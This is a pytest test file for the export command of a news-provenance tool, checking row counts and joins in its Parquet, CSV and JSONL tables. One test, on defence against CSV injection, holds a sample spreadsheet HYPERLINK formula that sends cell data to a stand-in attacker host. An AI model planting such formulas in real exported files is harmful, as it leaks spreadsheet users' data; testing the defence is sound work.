"""``newstrace export`` and :func:`newstrace.export.export_tables`: one file per table in Parquet, CSV and JSON Lines,
with exactly the store's rows, on real pages read at run time from ../shared/corpora/provenance."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from newstrace.cli import app
from newstrace.export import TABLES, export_tables
from newstrace.store import Store
from newstrace.store.ingest import ingest
from newstrace.store.trace import run_trace
from newstrace.stories import get_story, list_stories, story_of, update_stories

SHARED = Path(__file__).resolve().parents[1].parent / "shared"
PROV = SHARED / "corpora" / "provenance"
FILES = sorted(PROV.glob("h-*/*.txt")) + sorted(PROV.glob("k-*/*.txt")) + sorted(PROV.glob("e-*/*.txt"))


def url_of(path: Path) -> str:
    return path.read_text(encoding="utf-8").splitlines()[0].removeprefix("URL:").strip()


@pytest.fixture(scope="module")
def store_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("export") / "s.duckdb"
    with Store(path) as st:
        ingest(FILES, st, jobs=2)
        run_trace(st)
        update_stories(st)
    return path


@pytest.fixture(scope="module")
def store(store_path):
    with Store(store_path, read_only=True) as st:
        yield st


def store_count(st: Store, table: str) -> int:
    return st._q(f"SELECT count(*) FROM {table}").fetchall()[0][0]


@pytest.mark.parametrize("fmt", ["parquet", "csv", "jsonl"])
def test_every_table_is_written_with_the_stores_rows(store, tmp_path, fmt):
    from newstrace.provenance.graph import resolve

    written = export_tables(store, tmp_path / fmt, fmt)
    assert [w.table for w in written] == list(TABLES)
    n_articles = len(store.article_ids())
    # derivations and changes: those of the resolved graph, as `trace` prints it (resolve() of every stored pair)
    resolved = resolve(store.derivations(resolved=False))
    expected = {"articles": n_articles, "quotes": store_count(store, "quotes"), "claims": store_count(store, "claims"),
                "derivations": len(resolved), "changes": sum(len(d.changes) for d in resolved),
                "story_members": n_articles}  # fmt: skip
    for w in written:
        assert w.path == tmp_path / fmt / f"{w.table}.{fmt}" and w.path.exists()
        if fmt == "parquet":
            rows = pq.read_table(w.path).to_pylist()
        elif fmt == "csv":
            with w.path.open(encoding="utf-8", newline="") as fh:
                rows = list(csv.DictReader(fh))
        else:
            rows = [json.loads(line) for line in w.path.read_text(encoding="utf-8").splitlines()]
        assert len(rows) == w.rows, w.table
        if w.table in expected:
            assert w.rows == expected[w.table], w.table
        if w.table == "stories":
            assert sum(int(r["n_articles"]) for r in rows) == n_articles
            assert w.rows == list_stories(store, limit=10_000).total
    assert expected["quotes"] > 0 and expected["claims"] > 0 and expected["changes"] > 0
    # --all-pairs: every verified pair as stored
    every = {w.table: w.rows for w in export_tables(store, tmp_path / "all", fmt, ("derivations", "changes"), all_pairs=True)}
    assert every == {"derivations": store_count(store, "derivations"), "changes": store_count(store, "changes")}


def test_parquet_tables_join_up(store, tmp_path):
    export_tables(store, tmp_path, "parquet")
    read = {t: pq.read_table(tmp_path / f"{t}.parquet").to_pylist() for t in TABLES}
    ids = {r["id"] for r in read["articles"]}
    assert all(r["story_id"] for r in read["articles"])
    assert {r["article_id"] for r in read["quotes"]} <= ids and {r["article_id"] for r in read["claims"]} <= ids
    links = {(r["copy_id"], r["origin_key"]) for r in read["derivations"]}
    assert {(r["copy_id"], r["origin_key"]) for r in read["changes"]} <= links
    for d in read["derivations"]:
        n = sum(1 for c in read["changes"] if (c["copy_id"], c["origin_key"]) == (d["copy_id"], d["origin_key"]))
        assert d["n_changes"] == n and set(d["change_kinds"] or []) == {
            c["kind"] for c in read["changes"] if (c["copy_id"], c["origin_key"]) == (d["copy_id"], d["origin_key"])}
    # the Washington Post page: its URL host as outlet, its story row naming it as origin
    (h01,) = store.resolve(url_of(min(PROV.glob("h-*/01-*.txt"))))
    art = next(r for r in read["articles"] if r["id"] == h01)
    assert art["outlet"] == "washingtonpost.com" and art["story_id"] == story_of(store, h01)
    row = next(r for r in read["stories"] if r["story_id"] == art["story_id"])
    api = get_story(store, art["story_id"])
    assert h01 in row["origin_ids"] and row["n_articles"] == api.n_articles and row["outlets"] == api.outlets
    roles = {r["article_id"]: r["role"] for r in read["story_members"] if r["story_id"] == row["story_id"]}
    assert roles[h01] == "origin" and "copy" in roles.values() and "independent" in roles.values()
    assert sorted(r["article_id"] for r in read["story_members"]) == sorted(ids)


def test_export_cli_formats_and_errors(store_path, tmp_path):
    path = tmp_path / "copy.duckdb"  # the module's store is open read-only in this process
    shutil.copyfile(store_path, path)
    runner = CliRunner()
    out = tmp_path / "out"
    result = runner.invoke(app, ["export", "--format", "jsonl", "--store", str(path), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{t}.jsonl" for t in TABLES)
    with Store(path, read_only=True) as st:
        n = len(st.article_ids())
    assert f"articles: {n} rows -> {out / 'articles.jsonl'}" in result.stdout
    ro = runner.invoke(app, ["export", "-f", "csv", "--store", str(path), "-o", str(out), "--no-update"])
    assert ro.exit_code == 0, ro.output
    assert (out / "stories.csv").read_text(encoding="utf-8").startswith("story_id,headline,n_articles")
    bad = runner.invoke(app, ["export", "--format", "xml", "--store", str(path), "-o", str(out)])
    assert bad.exit_code == 2
    missing = runner.invoke(app, ["export", "--format", "csv", "--store", str(tmp_path / "none.duckdb"), "-o", str(out)])
    assert missing.exit_code == 2 and "no store at" in missing.stderr
    with pytest.raises(ValueError, match="format must be one of"), Store(path, read_only=True) as st:
        export_tables(st, out, "xml")  # type: ignore[arg-type]


def test_csv_list_columns_are_json_equal_to_parquet(store, tmp_path):
    export_tables(store, tmp_path / "p", "parquet", tables=("derivations", "stories"))
    export_tables(store, tmp_path / "c", "csv", tables=("derivations", "stories"))
    checked = 0
    for table in ("derivations", "stories"):
        parquet_rows = pq.read_table(tmp_path / "p" / f"{table}.parquet").to_pylist()
        with (tmp_path / "c" / f"{table}.csv").open(encoding="utf-8", newline="") as fh:
            csv_rows = list(csv.DictReader(fh))
        for prow, crow in zip(parquet_rows, csv_rows, strict=True):
            for col, value in prow.items():
                if isinstance(value, list):
                    assert json.loads(crow[col]) == value, (table, col)
                    checked += 1
    assert checked > 0


FORMULA_HEADLINES = ['=HYPERLINK("http://attacker.invalid/?x="&A1,"open")', "+44 callers queue for ferry refunds",
                     "-3 degrees overnight in Port Calder", "@harbourboard answers questions on the pier"]


def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path):
    """A headline read by a spreadsheet as a formula is written with a leading apostrophe (OWASP CSV injection);
    JSON Lines keeps the text as it came and an ordinary headline is untouched."""
    rows = [{"title": h, "text": f"The harbour board met on Tuesday about item {k}. It voted to reopen the pier."}
            for k, h in enumerate(FORMULA_HEADLINES + ["Pier reopens after storm"])]
    feed = tmp_path / "hostile.jsonl"
    feed.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    with Store(tmp_path / "s.duckdb") as st:
        ingest([feed], st, jobs=1)
        export_tables(st, tmp_path / "csv", "csv", tables=("articles",))
        export_tables(st, tmp_path / "jsonl", "jsonl", tables=("articles",))
    with (tmp_path / "csv" / "articles.csv").open(encoding="utf-8", newline="") as fh:
        csv_headlines = sorted(r["headline"] for r in csv.DictReader(fh))
    lines = (tmp_path / "jsonl" / "articles.jsonl").read_text(encoding="utf-8").splitlines()
    raw_headlines = sorted(json.loads(line)["headline"] for line in lines)
    assert raw_headlines == sorted(FORMULA_HEADLINES + ["Pier reopens after storm"])
    assert csv_headlines == sorted(["'" + h for h in FORMULA_HEADLINES] + ["Pier reopens after storm"])


def test_quote_and_claim_tables_carry_every_field_of_their_records(store, tmp_path):
    """Each field of Quote and Claim (schema.py) is a column of its exported table, so a field added to the data
    model (Claim.high and Claim.second in schema 1.1) cannot be left out of the export."""
    from newstrace.schema import Claim, Quote
    from newstrace.store.records import RENAMES

    export_tables(store, tmp_path, "parquet", tables=("quotes", "claims"))
    for table, model in (("quotes", Quote), ("claims", Claim)):
        columns = set(pq.read_table(tmp_path / f"{table}.parquet").column_names)
        assert {RENAMES.get(f, f) for f in model.model_fields} <= columns, table
    claims = pq.read_table(tmp_path / "claims.parquet").to_pylist()
    assert all(c["high"] is None or c["high"] > c["value"] for c in claims)
